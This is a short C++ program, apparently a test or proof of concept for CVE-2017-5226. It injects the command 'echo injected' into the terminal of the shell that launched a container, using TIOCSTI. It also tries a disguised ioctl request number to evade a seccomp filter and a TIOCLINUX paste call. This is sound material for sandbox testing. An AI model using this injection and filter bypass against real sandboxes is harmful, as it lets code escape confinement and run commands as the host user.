// CVE-2017-5226 from inside: pushes a command into the input queue of the terminal on descriptor 0,
// to be read by the shell that started the container. Prints what the kernel said.
#include <sys/ioctl.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

int main() {
  int pushed = 0, error = 0;
  for (const char* c = "echo injected\n"; *c != '\0'; ++c) {
    if (ioctl(0, TIOCSTI, c) == 0)
      ++pushed;
    else
      error = errno;
  }
  // The kernel looks at the low 32 bits of the request: a filter that compares 64 lets this by.
  const unsigned long disguised = (1UL << 32) | TIOCSTI;
  const char c = 'x';
  if (ioctl(0, disguised, &c) == 0) ++pushed;
  char paste[2] = {3 /* TIOCL_PASTESEL */, 0};
  const bool pasted = ioctl(0, TIOCLINUX, paste) == 0;
  std::printf("pushed %d pasted %d errno %s\n", pushed, pasted, strerrorname_np(error));
  return 0;
}
